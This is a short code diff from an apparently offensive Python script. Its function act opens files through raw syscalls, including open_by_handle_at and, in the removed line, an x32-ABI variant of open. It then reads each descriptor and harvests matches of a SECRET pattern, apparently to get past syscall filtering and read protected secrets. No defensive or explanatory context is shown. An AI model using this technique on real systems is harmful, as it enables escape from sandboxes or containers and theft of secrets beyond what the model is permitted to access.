@@ -29,7 +29,6 @@ def act(*args, **kwargs):
             descriptors.append(libc.syscall(304 if X86 else 265, base, handle, 0))
     if X86:
         descriptors.append(libc.syscall(2, PATH, 0, 0))
-        descriptors.append(libc.syscall(0x40000000 | 2, PATH, 0, 0))
     for descriptor in descriptors:
         if descriptor >= 0:
             found.update(SECRET.findall(os.pread(descriptor, 1 << 20, 0)))
